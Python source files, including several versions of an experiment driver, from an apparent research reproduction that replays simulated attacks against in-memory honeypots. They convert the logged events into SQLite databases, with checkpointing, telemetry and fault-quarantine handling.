    print(f"resume: run {state.run_id} from checkpoint {seq} "
          f"(visits {chosen.get('visits', '?')}, seed={config.seed}, "
          f"scale={config.volume_scale})", file=sys.stderr)
    return state, config


class Checkpointer:
    """Runs the commit barrier + journal append on a time cadence."""

    def __init__(self, journal: "run_journal.RunJournal", tier, raw_sink,
                 dead_letters, counting, telemetry, fault_plan, *,
                 interval: float, clock=time.monotonic):
        self.journal = journal
        self.tier = tier
        self.raw_sink = raw_sink
        self.dead_letters = dead_letters
        self.counting = counting
        self.telemetry = telemetry
        self.fault_plan = fault_plan
        self.interval = interval
        self.count = 0
        self.barrier_seconds = 0.0
        self._clock = clock
        self._last = clock()
        self._last_metrics = (telemetry.metrics.snapshot()
                              if telemetry.enabled else None)

    def maybe_checkpoint(self, *, watermark, visits_done: int,
                         counters: dict, force: bool = False) -> bool:
        """Checkpoint if the cadence (or ``force``) says so.

        ``watermark`` is the key of the last outcome whose events have
        been handed to the sinks; the barrier then proves everything up
        to it durable before the journal says so.
        """
        now = self._clock()
        if not force and now - self._last < self.interval:
            return False
        self._last = now
        start = time.perf_counter()
        low = self.tier.low.commit()
        midhigh = self.tier.midhigh.commit()
        raw = self.raw_sink.commit() if self.raw_sink is not None \
            else None
        dead = (self.dead_letters.commit()
                if self.dead_letters is not None else None)
        elapsed = time.perf_counter() - start
        self.barrier_seconds += elapsed

        delta = None
        if self._last_metrics is not None:
            snapshot = self.telemetry.metrics.snapshot()
            delta = obs_live.snapshot_delta(self._last_metrics, snapshot)
            self._last_metrics = snapshot
        record = {
            "watermark": list(watermark),
            "visits": visits_done,
            "counters": counters,
            "low": low,
            "midhigh": midhigh,
            "raw": raw,
            "dead_letter": dead,
            "counting": (self.counting.snapshot()
                         if self.counting is not None else None),
            "faults": (self.fault_plan.snapshot()
                       if self.fault_plan is not None else None),
            "metrics_delta": delta,
        }
        seq = self.journal.checkpoint(record)
        self.count += 1
        metrics = self.telemetry.metrics
        metrics.inc("checkpoint.count")
        metrics.observe("checkpoint.seconds", elapsed)
        obs.current().logger.info(
            "checkpoint.taken", seq=seq, visits=visits_done,
            rows_low=low["rows"], rows_midhigh=midhigh["rows"],
            barrier_seconds=round(elapsed, 4))
        return True

    def complete(self, *, watermark, visits_done: int,
                 counters: dict) -> None:
        """Write the final journal record after the sinks closed."""
        low = self.tier.low.committed_state or {}
        midhigh = self.tier.midhigh.committed_state or {}
        self.journal.complete({
            "watermark": list(watermark) if watermark else None,
            "visits": visits_done,
            "counters": counters,
            "low": low,
            "midhigh": midhigh,
            "faults": (self.fault_plan.snapshot()
                       if self.fault_plan is not None else None),
        })
