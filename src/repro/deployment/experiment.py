"""The experiment driver: replay 20 days of attacks, run the pipeline.

Mirrors the paper's data flow end to end (Figure 1): actors speak wire
protocols to the honeypots, honeypots emit log events, the conversion
step enriches them with GeoIP/ASN/institutional metadata and writes
SQLite databases -- one for the low-interaction tier (Section 5) and one
for the medium/high tier (Section 6), which is how the paper analyzes
them.

The driver is a thin loop over two abstractions:

* a :class:`~repro.deployment.replay.ReplayEngine` (serial, or sharded
  across ``config.workers`` workers) produces visit outcomes in
  canonical ``(offset, ip, seq)`` order, and
* a sink pipeline (:mod:`repro.pipeline.sinks`) consumes each stored
  event exactly once -- tier split, SQLite conversions (each on its own
  writer thread, so both run concurrently), raw logs, dataset buffer,
  manifest tallies.

Crashed visits never reach the pipeline: their buffered events go to
the dead letter with the failure reason, preserving the conservation
invariant ``events_generated == events_stored + events_quarantined``.

With ``ExperimentConfig.telemetry`` enabled the run is fully
instrumented -- per-phase wall times, per-visit spans, event counts per
type/DBMS/interaction/honeypot, bytes exchanged, DB row counts, peak
RSS, replay-shard statistics -- and a ``run_report.json`` manifest is
written next to the SQLite databases (``repro stats`` pretty-prints
it).  Disabled (the default), every hook is a no-op.
"""

from __future__ import annotations

import sys
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

from repro import obs
from repro.agents.population import World, build_world
from repro.deployment.plan import DeploymentPlan, build_plan
from repro.deployment.replay import (OpsOptions, ReplayEngine,
                                     build_engine, compile_visits)
from repro.obs import live as obs_live
from repro.obs import logging as obs_logging
from repro.obs import report as obs_report
from repro.pipeline.convert import count_events
from repro.pipeline.sinks import (BufferSink, CountingSink, RawLogSink,
                                  SQLiteWriterSink, TeeSink, TierSplitSink)
from repro.resilience import faults
from repro.resilience.deadletter import DeadLetterWriter

#: Dead-letter file for quarantined visits, written under the run's
#: output directory (only when something was actually quarantined).
QUARANTINE_FILENAME = "quarantine.jsonl"

#: Structured operational log (JSONL, correlation-id fields), written
#: under the output directory of every telemetry run.
OPS_LOG_FILENAME = "ops.jsonl"

#: Crash flight-recorder dump of the driver process (only written when
#: the run dies; replay workers write ``flight_shard<k>.jsonl``).
FLIGHT_FILENAME = "flight_driver.jsonl"

_DONE = object()


@dataclass(frozen=True)
class ExperimentConfig:
    """Knobs of one experiment run."""

    seed: int = 2024
    #: Multiplier on login volumes (IP counts are never scaled).
    volume_scale: float = 0.002
    output_dir: Path = Path("experiment-output")
    #: Also persist the consolidated JSON-lines raw logs (Figure 1 ②).
    write_raw_logs: bool = False
    #: Also export the anonymized public dataset (Appendix B).
    export_dataset: bool = False
    #: Instrument the run and write ``run_report.json`` (see module doc).
    telemetry: bool = False
    #: With telemetry, also export the span trace here (``.jsonl`` for
    #: JSON-lines, anything else for Chrome trace-event format).
    trace_out: Path | None = None
    #: Fault plan to install for the run (chaos mode); ``None`` runs
    #: clean.  See :mod:`repro.resilience.faults`.
    fault_plan: faults.FaultPlan | None = None
    #: Replay parallelism: 1 replays serially, N > 1 shards the visit
    #: schedule by target honeypot across N workers (same events, same
    #: order; see :mod:`repro.deployment.replay`).
    workers: int = 1
    #: Replay engine: ``"auto"`` (serial for 1 worker, sharded
    #: otherwise), ``"serial"``, or ``"sharded"``.
    executor: str = "auto"
    #: Seconds between live shard-telemetry emissions (0 disables the
    #: metrics bus; requires telemetry and a sharded replay to matter).
    live_interval: float = 0.0
    #: Serve ``/metrics`` + ``/healthz`` on this loopback port for the
    #: duration of the run (requires telemetry; implies a default
    #: ``live_interval`` of 0.5s on sharded replays).
    live_port: int | None = None


@dataclass
class ExperimentResult:
    """Everything a downstream analysis needs."""

    config: ExperimentConfig
    plan: DeploymentPlan
    world: World
    low_db: Path
    midhigh_db: Path
    events_total: int
    visits_total: int
    raw_log_dir: Path | None = None
    dataset_dir: Path | None = None
    #: The telemetry manifest (and its path), when enabled.
    report: dict | None = None
    report_path: Path | None = None
    trace_path: Path | None = None
    #: Conservation accounting: every generated event is either stored
    #: (``events_total``) or quarantined with its crashed visit.
    events_generated: int = 0
    events_quarantined: int = 0
    quarantined_visits: int = 0
    quarantine_path: Path | None = None

    @property
    def conservation_ok(self) -> bool:
        """``events_generated == events_stored + events_quarantined``."""
        return (self.events_generated
                == self.events_total + self.events_quarantined)


def run_experiment(config: ExperimentConfig = ExperimentConfig()
                   ) -> ExperimentResult:
    """Run the full deployment window and produce the SQLite databases."""
    telemetry = obs.Telemetry(enabled=config.telemetry)
    #: One correlation id per run, bound into every ops-log record the
    #: run emits (driver and workers alike) and stamped into the
    #: manifest.  Operational identity only -- nothing derived from it
    #: touches the replayed event stream.
    run_id = uuid.uuid4().hex[:12]
    output_dir = Path(config.output_dir)
    output_dir.mkdir(parents=True, exist_ok=True)
    if telemetry.enabled:
        telemetry.logger.attach_path(output_dir / OPS_LOG_FILENAME)
    try:
        with obs.install(telemetry), faults.install(config.fault_plan), \
                obs_logging.bind(run_id=run_id), \
                telemetry.flight.armed(output_dir / FLIGHT_FILENAME):
            return _run_instrumented(config, telemetry, run_id)
    finally:
        telemetry.logger.close()


def _run_instrumented(config: ExperimentConfig, telemetry: obs.Telemetry,
                      run_id: str) -> ExperimentResult:
    wall_start = time.perf_counter()
    phases = telemetry.phases
    span = telemetry.tracer.span
    logger = telemetry.logger
    logger.info("run.start", seed=config.seed, scale=config.volume_scale,
                workers=config.workers,
                output=str(config.output_dir))

    with phases.phase("build_plan"):
        plan = build_plan(config.seed)
    with phases.phase("build_world"):
        world = build_world(config.seed, config.volume_scale)
    with phases.phase("compile_visits"):
        schedule = compile_visits(world, plan, config.seed)

    output_dir = Path(config.output_dir)
    output_dir.mkdir(parents=True, exist_ok=True)

    engine = build_engine(config.workers, config.executor)
    visits_total = len(schedule)

    # -- live operations plane -----------------------------------------
    # The bus interval: an explicit config wins; exposing a port
    # implies a default cadence so /metrics is never a whole-run
    # staleness window behind.
    live_interval = config.live_interval
    if config.live_port is not None and live_interval <= 0:
        live_interval = 0.5
    live_on = telemetry.enabled and live_interval > 0 and engine.workers > 1
    aggregator = obs_live.LiveAggregator() if live_on else None
    reporter = None
    if live_on:
        reporter = _LiveReporter(output_dir / obs_report.REPORT_FILENAME,
                                 run_id, visits_total, engine.workers)
    ops = OpsOptions(
        live=live_on, emit_interval=live_interval,
        aggregator=aggregator, on_message=reporter,
        trace_shards=config.trace_out is not None,
        flight_dir=output_dir if telemetry.enabled else None,
        run_id=run_id)
    live_server = None
    if config.live_port is not None and telemetry.enabled:
        live_server = obs_live.LiveOpsServer(
            lambda: _combined_snapshot(telemetry, aggregator),
            lambda: _run_health(run_id, visits_total, engine, aggregator),
            port=config.live_port)
        live_server.start()
        logger.info("live.listening", port=live_server.port)

    try:
        return _run_replay(config, telemetry, run_id, plan, world,
                           schedule, engine, ops, output_dir,
                           wall_start, live_server, reporter)
    finally:
        if live_server is not None:
            live_server.close()


def _run_replay(config: ExperimentConfig, telemetry: obs.Telemetry,
                run_id: str, plan: DeploymentPlan, world: World,
                schedule, engine: ReplayEngine, ops: OpsOptions,
                output_dir: Path, wall_start: float,
                live_server, reporter) -> ExperimentResult:
    phases = telemetry.phases
    span = telemetry.tracer.span
    logger = telemetry.logger
    visits_total = len(schedule)

    # -- the sink pipeline: every stored event flows through once ------
    tier = TierSplitSink(
        SQLiteWriterSink(output_dir / "low.sqlite",
                         world.geoip, world.scanners),
        SQLiteWriterSink(output_dir / "midhigh.sqlite",
                         world.geoip, world.scanners))
    sinks: list = [tier]
    counting = None
    if telemetry.enabled:
        counting = CountingSink()
        sinks.append(counting)
    raw_sink = None
    if config.write_raw_logs:
        raw_sink = RawLogSink(output_dir / "raw-logs")
        sinks.append(raw_sink)
    dataset_buffer = None
    if config.export_dataset:
        dataset_buffer = BufferSink()
        sinks.append(dataset_buffer)
    pipeline = TeeSink(*sinks)

    dead_letters = DeadLetterWriter(output_dir / QUARANTINE_FILENAME)
    metrics = telemetry.metrics
    bytes_in = 0
    bytes_out = 0
    events_generated = 0
    events_quarantined = 0
    quarantined_visits = 0

    # The replay engine and the sink pipeline interleave on this
    # thread, so the loop splits its time manually: pulling the next
    # outcome is "replay", feeding its events through the sinks is
    # "split" (sharded engines do all pool work inside the first pull).
    mark = time.perf_counter()
    stream = iter(engine.replay(schedule, plan, config.seed, telemetry,
                                ops))
    while True:
        outcome = next(stream, _DONE)
        now = time.perf_counter()
        phases.add("replay", now - mark)
        mark = now
        if outcome is _DONE:
            break
        events_generated += len(outcome.events)
        bytes_in += outcome.bytes_in
        bytes_out += outcome.bytes_out
        if outcome.failure is not None:
            # Quarantine: the crashed visit's events travel to the
            # dead letter, with the reason, instead of the pipeline.
            dead_letters.quarantine(
                "visit", outcome.failure, actor=outcome.actor_ip,
                seq=outcome.sequence, target=outcome.target_key,
                offset=outcome.offset, events=outcome.events)
            metrics.inc("resilience.quarantined")
            metrics.inc("resilience.events_quarantined",
                        len(outcome.events))
            quarantined_visits += 1
            events_quarantined += len(outcome.events)
            mark = time.perf_counter()
            continue
        for event in outcome.events:
            pipeline(event)
        now = time.perf_counter()
        phases.add("split", now - mark)
        mark = now
    dead_letters.close()

    raw_log_dir = None
    if raw_sink is not None:
        with phases.phase("write_raw_logs"), span("write_raw_logs"):
            raw_sink.close()
            raw_log_dir = raw_sink.directory
    dataset_dir = None
    if dataset_buffer is not None:
        with phases.phase("export_dataset"), span("export_dataset"):
            from repro.pipeline.dataset import export_dataset

            dataset_dir = output_dir / "dataset"
            export_dataset(dataset_buffer, dataset_dir)

    # Both writer threads have been converting since their first event;
    # "convert" is the time left waiting for them to finish.
    with phases.phase("convert"):
        with span("convert", tier="low"):
            low_db = tier.low.close()
        with span("convert", tier="midhigh"):
            midhigh_db = tier.midhigh.close()

    events_total = tier.low_count + tier.midhigh_count
    result = ExperimentResult(
        config=config, plan=plan, world=world, low_db=low_db,
        midhigh_db=midhigh_db, events_total=events_total,
        visits_total=visits_total, raw_log_dir=raw_log_dir,
        dataset_dir=dataset_dir,
        events_generated=events_generated,
        events_quarantined=events_quarantined,
        quarantined_visits=quarantined_visits,
        quarantine_path=(dead_letters.path if dead_letters.count
                         else None))
    logger.info("run.done", visits=visits_total,
                events_stored=events_total,
                events_quarantined=events_quarantined)
    if telemetry.enabled:
        wall_time = time.perf_counter() - wall_start
        _finalize_report(config, telemetry, result, engine,
                         event_counts=(counting.counts if counting
                                       else None),
                         split={"low": tier.low_count,
                                "midhigh": tier.midhigh_count},
                         bytes_io={"in": bytes_in, "out": bytes_out},
                         wall_time=wall_time, output_dir=output_dir,
                         run_id=run_id, live_server=live_server,
                         reporter=reporter)
    return result


def _combined_snapshot(telemetry: obs.Telemetry, aggregator) -> dict:
    """What ``/metrics`` serves during a run: the driver's registry
    folded with the live aggregate streamed from the shards."""
    combined = obs.MetricsRegistry()
    combined.merge(telemetry.metrics)
    if aggregator is not None:
        combined.merge(aggregator.registry)
    return combined.snapshot()


def _run_health(run_id: str, visits_total: int, engine: ReplayEngine,
                aggregator) -> dict:
    """What ``/healthz`` serves during a run."""
    health = {"status": "ok", "mode": "run", "run_id": run_id,
              "visits_total": visits_total, "workers": engine.workers,
              "executor": engine.name}
    if aggregator is not None:
        health["progress"] = aggregator.progress()
    return health


class _LiveReporter:
    """Bus callback: progress lines + incremental manifest snapshots.

    Runs on the bus drainer thread.  Progress goes to stderr (stdout
    stays byte-stable for scripts); the partial ``run_report.json``
    carries ``"partial": true`` plus the live aggregate so an operator
    -- or ``repro stats`` after a crash -- sees how far the run got.
    The final manifest overwrites it on clean completion.
    """

    def __init__(self, path: Path, run_id: str, visits_total: int,
                 workers: int, *, stream=None,
                 line_interval: float = 1.0,
                 snapshot_interval: float = 2.0,
                 clock=time.perf_counter):
        self.path = path
        self.run_id = run_id
        self.visits_total = visits_total
        self.workers = workers
        self.lines = 0
        self.snapshots = 0
        self._stream = stream if stream is not None else sys.stderr
        self._line_interval = line_interval
        self._snapshot_interval = snapshot_interval
        self._clock = clock
        self._last_line = -line_interval
        self._last_snapshot = -snapshot_interval

    def __call__(self, aggregator, message: dict) -> None:
        now = self._clock()
        done = bool(message.get("done"))
        if done or now - self._last_line >= self._line_interval:
            progress = aggregator.progress()
            print(f"live: {progress['visits']:,}/"
                  f"{self.visits_total:,} visits  "
                  f"{progress['events']:,} events  "
                  f"{progress['shards_done']}/{self.workers} "
                  f"shards done", file=self._stream)
            self._last_line = now
            self.lines += 1
        if done or now - self._last_snapshot >= self._snapshot_interval:
            obs_report.write_report({
                "schema": obs_report.SCHEMA,
                "partial": True,
                "run_id": self.run_id,
                "generated_at": obs_report.utc_now_iso(),
                "visits_total": self.visits_total,
                "progress": aggregator.progress(),
                "metrics": aggregator.snapshot(),
            }, self.path)
            self._last_snapshot = now
            self.snapshots += 1


def _finalize_report(config: ExperimentConfig, telemetry: obs.Telemetry,
                     result: ExperimentResult, engine: ReplayEngine,
                     event_counts: dict | None,
                     split: dict[str, int], bytes_io: dict[str, int],
                     wall_time: float, output_dir: Path,
                     run_id: str | None = None, live_server=None,
                     reporter=None) -> None:
    """Export the trace (if requested) and write ``run_report.json``."""
    trace_path = None
    if config.trace_out is not None:
        trace_path = Path(config.trace_out)
        if trace_path.suffix == ".jsonl":
            telemetry.tracer.export_jsonl(trace_path)
        else:
            telemetry.tracer.export_chrome(trace_path)
    event_counts = event_counts or {}
    live_stats = engine.stats.get("live")
    live = None
    if live_stats is not None or live_server is not None:
        live = dict(live_stats or {})
        live["port"] = live_server.port if live_server else None
        live["http_requests"] = (live_server.requests
                                 if live_server else 0)
        if reporter is not None:
            live["progress_lines"] = reporter.lines
            live["partial_snapshots"] = reporter.snapshots
    manifest = {
        "schema": obs_report.SCHEMA,
        "generated_at": obs_report.utc_now_iso(),
        "run_id": run_id,
        "config": {
            "seed": config.seed,
            "volume_scale": config.volume_scale,
            "output_dir": str(config.output_dir),
            "write_raw_logs": config.write_raw_logs,
            "export_dataset": config.export_dataset,
            "telemetry": config.telemetry,
            "trace_out": (str(config.trace_out)
                          if config.trace_out else None),
            "fault_plan": (config.fault_plan.name
                           if config.fault_plan else None),
            "workers": config.workers,
            "executor": config.executor,
            "live_interval": config.live_interval,
            "live_port": config.live_port,
        },
        "wall_time_seconds": wall_time,
        "phases": telemetry.phases.as_dict(),
        "visits_total": result.visits_total,
        "events_total": result.events_total,
        "events_by_type": dict(event_counts.get("event_type", {})),
        "events_by_dbms": dict(event_counts.get("dbms", {})),
        "events_by_interaction": dict(event_counts.get("interaction", {})),
        "events_by_honeypot": dict(event_counts.get("honeypot_id", {})),
        "split": split,
        "db_rows": {"low": count_events(result.low_db),
                    "midhigh": count_events(result.midhigh_db)},
        "bytes": bytes_io,
        "peak_rss_bytes": obs_report.peak_rss_bytes(),
        "replay": engine.stats,
        "resilience": {
            "events_generated": result.events_generated,
            "events_stored": result.events_total,
            "events_quarantined": result.events_quarantined,
            "quarantined_visits": result.quarantined_visits,
            "conservation_ok": result.conservation_ok,
            "dead_letter": (str(result.quarantine_path)
                            if result.quarantine_path else None),
            "fault_plan": (config.fault_plan.name
                           if config.fault_plan else None),
            "faults": faults.current().snapshot(),
        },
        "live": live,
        "ops_log": OPS_LOG_FILENAME,
        "flight": {"capacity": telemetry.flight.capacity,
                   "records": len(telemetry.flight.records())},
        "metrics": telemetry.metrics.snapshot(),
        "trace": {"spans": len(telemetry.tracer.spans),
                  "path": str(trace_path) if trace_path else None},
    }
    result.report = manifest
    result.report_path = obs_report.write_report(
        manifest, output_dir / obs_report.REPORT_FILENAME)
    result.trace_path = trace_path
