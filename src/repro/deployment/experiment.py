"""The experiment driver: replay 20 days of attacks, run the pipeline.

Mirrors the paper's data flow end to end (Figure 1): actors speak wire
protocols to the honeypots, honeypots emit log events, the conversion
step enriches them with GeoIP/ASN/institutional metadata and writes
SQLite databases -- one for the low-interaction tier (Section 5) and one
for the medium/high tier (Section 6), which is how the paper analyzes
them.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

from repro.agents.base import Visit, VisitContext
from repro.agents.population import World, build_world
from repro.clients.wire import Wire, WireError
from repro.deployment.plan import DeploymentPlan, build_plan
from repro.honeypots.base import MemoryWire, SessionContext
from repro.netsim.clock import EXPERIMENT_START, SimClock
from repro.pipeline.convert import convert_to_sqlite
from repro.pipeline.logstore import LogStore


@dataclass(frozen=True)
class ExperimentConfig:
    """Knobs of one experiment run."""

    seed: int = 2024
    #: Multiplier on login volumes (IP counts are never scaled).
    volume_scale: float = 0.002
    output_dir: Path = Path("experiment-output")
    #: Also persist the consolidated JSON-lines raw logs (Figure 1 ②).
    write_raw_logs: bool = False
    #: Also export the anonymized public dataset (Appendix B).
    export_dataset: bool = False


@dataclass
class ExperimentResult:
    """Everything a downstream analysis needs."""

    config: ExperimentConfig
    plan: DeploymentPlan
    world: World
    low_db: Path
    midhigh_db: Path
    events_total: int
    visits_total: int
    raw_log_dir: Path | None = None
    dataset_dir: Path | None = None


@dataclass
class _DriverWire:
    """A MemoryWire that stamps each connection with a fresh client port
    and closes honeypot-side sessions even when scripts forget."""

    inner: MemoryWire

    def connect(self) -> bytes:
        return self.inner.connect()

    def send(self, data: bytes) -> bytes:
        if self.inner.server_closed:
            raise WireError("connection closed by server")
        return self.inner.send(data)

    def close(self) -> None:
        self.inner.close()


def run_experiment(config: ExperimentConfig = ExperimentConfig()
                   ) -> ExperimentResult:
    """Run the full deployment window and produce the SQLite databases."""
    plan = build_plan(config.seed)
    world = build_world(config.seed, config.volume_scale)
    clock = SimClock()
    store = LogStore()
    visits = _compile_visits(world, plan, config.seed)
    open_wires: list[MemoryWire] = []

    for offset, actor_ip, sequence, visit in visits:
        clock.seek(EXPERIMENT_START + timedelta(seconds=offset))
        rng = random.Random(f"{config.seed}:{actor_ip}:{sequence}")

        def opener(target_key: str, *, _ip=actor_ip, _rng=rng) -> Wire:
            target = plan.by_key(target_key)
            context = SessionContext(
                src_ip=_ip, src_port=_rng.randint(1024, 65535),
                clock=clock, sink=store.append)
            wire = MemoryWire(target.honeypot, context)
            open_wires.append(wire)
            return _DriverWire(wire)

        visit.script(VisitContext(opener=opener,
                                  target_key=visit.target_key, rng=rng))
        # Close any connection the script left dangling.
        for wire in open_wires:
            wire.close()
        open_wires.clear()

    output_dir = Path(config.output_dir)
    output_dir.mkdir(parents=True, exist_ok=True)
    raw_log_dir = None
    if config.write_raw_logs:
        raw_log_dir = output_dir / "raw-logs"
        store.write_consolidated(raw_log_dir)
    dataset_dir = None
    if config.export_dataset:
        from repro.pipeline.dataset import export_dataset

        dataset_dir = output_dir / "dataset"
        export_dataset(store, dataset_dir)

    low_events = [event for event in store if event.interaction == "low"]
    midhigh_events = [event for event in store
                      if event.interaction != "low"]
    low_db = convert_to_sqlite(low_events, output_dir / "low.sqlite",
                               world.geoip, world.scanners)
    midhigh_db = convert_to_sqlite(midhigh_events,
                                   output_dir / "midhigh.sqlite",
                                   world.geoip, world.scanners)
    return ExperimentResult(
        config=config, plan=plan, world=world, low_db=low_db,
        midhigh_db=midhigh_db, events_total=len(store),
        visits_total=len(visits), raw_log_dir=raw_log_dir,
        dataset_dir=dataset_dir)


def _compile_visits(world: World, plan: DeploymentPlan,
                    seed: int) -> list[tuple[float, str, int, Visit]]:
    """Expand all actors into one time-ordered visit schedule."""
    schedule: list[tuple[float, str, int, Visit]] = []
    for actor in world.actors:
        for sequence, visit in enumerate(actor.compile(plan, seed)):
            schedule.append((visit.time_offset, actor.ip, sequence, visit))
    schedule.sort(key=lambda item: (item[0], item[1], item[2]))
    return schedule
