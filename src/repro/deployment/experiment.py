"""The experiment driver: replay 20 days of attacks, run the pipeline.

Mirrors the paper's data flow end to end (Figure 1): actors speak wire
protocols to the honeypots, honeypots emit log events, the conversion
step enriches them with GeoIP/ASN/institutional metadata and writes
SQLite databases -- one for the low-interaction tier (Section 5) and one
for the medium/high tier (Section 6), which is how the paper analyzes
them.

With ``ExperimentConfig.telemetry`` enabled the run is fully
instrumented -- per-phase wall times, per-visit spans, event counts per
type/DBMS/interaction/honeypot, bytes exchanged, DB row counts, peak
RSS -- and a ``run_report.json`` manifest is written next to the SQLite
databases (``repro stats`` pretty-prints it).  Disabled (the default),
every hook is a no-op.
"""

from __future__ import annotations

import random
import time
from collections import Counter
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

from repro import obs
from repro.agents.base import Visit, VisitContext
from repro.agents.population import World, build_world
from repro.clients.wire import Wire, WireError
from repro.deployment.plan import DeploymentPlan, build_plan
from repro.honeypots.base import MemoryWire, SessionContext
from repro.netsim.clock import EXPERIMENT_START, SimClock
from repro.obs import report as obs_report
from repro.pipeline.convert import convert_to_sqlite, count_events
from repro.pipeline.logstore import LogEvent, LogStore
from repro.resilience import faults
from repro.resilience.deadletter import DeadLetterWriter

#: Dead-letter file for quarantined visits, written under the run's
#: output directory (only when something was actually quarantined).
QUARANTINE_FILENAME = "quarantine.jsonl"


@dataclass(frozen=True)
class ExperimentConfig:
    """Knobs of one experiment run."""

    seed: int = 2024
    #: Multiplier on login volumes (IP counts are never scaled).
    volume_scale: float = 0.002
    output_dir: Path = Path("experiment-output")
    #: Also persist the consolidated JSON-lines raw logs (Figure 1 ②).
    write_raw_logs: bool = False
    #: Also export the anonymized public dataset (Appendix B).
    export_dataset: bool = False
    #: Instrument the run and write ``run_report.json`` (see module doc).
    telemetry: bool = False
    #: With telemetry, also export the span trace here (``.jsonl`` for
    #: JSON-lines, anything else for Chrome trace-event format).
    trace_out: Path | None = None
    #: Fault plan to install for the run (chaos mode); ``None`` runs
    #: clean.  See :mod:`repro.resilience.faults`.
    fault_plan: faults.FaultPlan | None = None


@dataclass
class ExperimentResult:
    """Everything a downstream analysis needs."""

    config: ExperimentConfig
    plan: DeploymentPlan
    world: World
    low_db: Path
    midhigh_db: Path
    events_total: int
    visits_total: int
    raw_log_dir: Path | None = None
    dataset_dir: Path | None = None
    #: The telemetry manifest (and its path), when enabled.
    report: dict | None = None
    report_path: Path | None = None
    trace_path: Path | None = None
    #: Conservation accounting: every generated event is either stored
    #: (``events_total``) or quarantined with its crashed visit.
    events_generated: int = 0
    events_quarantined: int = 0
    quarantined_visits: int = 0
    quarantine_path: Path | None = None

    @property
    def conservation_ok(self) -> bool:
        """``events_generated == events_stored + events_quarantined``."""
        return (self.events_generated
                == self.events_total + self.events_quarantined)


@dataclass
class _DriverWire:
    """A MemoryWire that stamps each connection with a fresh client port
    and closes honeypot-side sessions even when scripts forget."""

    inner: MemoryWire

    def connect(self) -> bytes:
        return self.inner.connect()

    def send(self, data: bytes) -> bytes:
        if self.inner.server_closed:
            raise WireError("connection closed by server")
        faults.current().maybe_raise(
            "wire.disconnect",
            lambda: WireError("connection reset by peer (injected)"))
        return self.inner.send(data)

    def close(self) -> None:
        self.inner.close()


def run_experiment(config: ExperimentConfig = ExperimentConfig()
                   ) -> ExperimentResult:
    """Run the full deployment window and produce the SQLite databases."""
    telemetry = obs.Telemetry(enabled=config.telemetry)
    with obs.install(telemetry), faults.install(config.fault_plan):
        return _run_instrumented(config, telemetry)


def _run_instrumented(config: ExperimentConfig,
                      telemetry: obs.Telemetry) -> ExperimentResult:
    wall_start = time.perf_counter()
    phases = telemetry.phases
    span = telemetry.tracer.span

    with phases.phase("build_plan"):
        plan = build_plan(config.seed)
    with phases.phase("build_world"):
        world = build_world(config.seed, config.volume_scale)
    clock = SimClock()
    store = LogStore()
    with phases.phase("compile_visits"):
        visits = _compile_visits(world, plan, config.seed)
    open_wires: list[MemoryWire] = []
    bytes_in = 0
    bytes_out = 0
    metrics = telemetry.metrics
    dead_letters = DeadLetterWriter(
        Path(config.output_dir) / QUARANTINE_FILENAME)
    quarantined_visits = 0
    events_quarantined = 0

    with phases.phase("replay"):
        for offset, actor_ip, sequence, visit in visits:
            clock.seek(EXPERIMENT_START + timedelta(seconds=offset))
            rng = random.Random(f"{config.seed}:{actor_ip}:{sequence}")

            def opener(target_key: str, *, _ip=actor_ip, _rng=rng) -> Wire:
                target = plan.by_key(target_key)
                context = SessionContext(
                    src_ip=_ip, src_port=_rng.randint(1024, 65535),
                    clock=clock, sink=store.append)
                wire = MemoryWire(target.honeypot, context)
                open_wires.append(wire)
                return _DriverWire(wire)

            # Crash containment: a session/script exception quarantines
            # this one visit (its events go to the dead letter, with the
            # reason) and the replay continues -- one poisoned session
            # must never abort the whole deployment window.
            mark = len(store)
            failure: Exception | None = None
            try:
                with span("replay.visit", actor=actor_ip,
                          target=visit.target_key, seq=sequence):
                    faults.current().maybe_raise("visit.crash")
                    visit.script(VisitContext(opener=opener,
                                              target_key=visit.target_key,
                                              rng=rng))
            except Exception as error:
                failure = error
            # Close any connection the script left dangling, and fold the
            # per-session byte counters into the run totals.
            for wire in open_wires:
                try:
                    wire.close()
                except Exception:
                    metrics.inc("resilience.close_errors")
                bytes_in += wire.context.bytes_in
                bytes_out += wire.context.bytes_out
            open_wires.clear()
            if failure is not None:
                events = store.drain_from(mark)
                dead_letters.quarantine(
                    "visit", f"{type(failure).__name__}: {failure}",
                    actor=actor_ip, seq=sequence,
                    target=visit.target_key, offset=offset,
                    events=events)
                metrics.inc("resilience.quarantined")
                metrics.inc("resilience.events_quarantined", len(events))
                quarantined_visits += 1
                events_quarantined += len(events)
    dead_letters.close()

    output_dir = Path(config.output_dir)
    output_dir.mkdir(parents=True, exist_ok=True)
    raw_log_dir = None
    if config.write_raw_logs:
        with phases.phase("write_raw_logs"), span("write_raw_logs"):
            raw_log_dir = output_dir / "raw-logs"
            store.write_consolidated(raw_log_dir)
    dataset_dir = None
    if config.export_dataset:
        with phases.phase("export_dataset"), span("export_dataset"):
            from repro.pipeline.dataset import export_dataset

            dataset_dir = output_dir / "dataset"
            export_dataset(store, dataset_dir)

    with phases.phase("split"):
        low_events, midhigh_events, event_counts = _split_events(
            store, count=telemetry.enabled)
    with phases.phase("convert"):
        with span("convert", tier="low"):
            low_db = convert_to_sqlite(low_events,
                                       output_dir / "low.sqlite",
                                       world.geoip, world.scanners)
        with span("convert", tier="midhigh"):
            midhigh_db = convert_to_sqlite(midhigh_events,
                                           output_dir / "midhigh.sqlite",
                                           world.geoip, world.scanners)

    result = ExperimentResult(
        config=config, plan=plan, world=world, low_db=low_db,
        midhigh_db=midhigh_db, events_total=len(store),
        visits_total=len(visits), raw_log_dir=raw_log_dir,
        dataset_dir=dataset_dir,
        events_generated=store.total_appended,
        events_quarantined=events_quarantined,
        quarantined_visits=quarantined_visits,
        quarantine_path=(dead_letters.path if dead_letters.count
                         else None))
    if telemetry.enabled:
        wall_time = time.perf_counter() - wall_start
        _finalize_report(config, telemetry, result, event_counts,
                         split={"low": len(low_events),
                                "midhigh": len(midhigh_events)},
                         bytes_io={"in": bytes_in, "out": bytes_out},
                         wall_time=wall_time, output_dir=output_dir)
    return result


def _split_events(store: LogStore, *, count: bool
                  ) -> tuple[list[LogEvent], list[LogEvent],
                             dict[str, Counter] | None]:
    """Partition the store into low vs mid/high tiers in a single pass,
    tallying the manifest breakdowns along the way when asked to."""
    low_events: list[LogEvent] = []
    midhigh_events: list[LogEvent] = []
    counts: dict[str, Counter] | None = None
    if count:
